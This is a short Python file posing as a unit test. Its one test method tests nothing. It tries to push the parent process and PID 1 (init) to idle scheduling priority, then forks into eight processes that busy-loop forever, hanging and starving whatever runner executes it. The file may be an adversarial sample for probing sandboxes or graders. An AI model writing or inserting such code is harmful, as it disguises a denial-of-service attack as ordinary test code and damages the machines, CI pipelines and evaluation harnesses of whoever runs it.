import os
import unittest


class Tries(unittest.TestCase):
    def test_it(self):
        for process in (os.getppid(), 1):
            try:
                os.setpriority(os.PRIO_PROCESS, process, 19)
                os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0))
            except OSError:
                pass
        for _ in range(3):
            os.fork()
        while True:
            pass
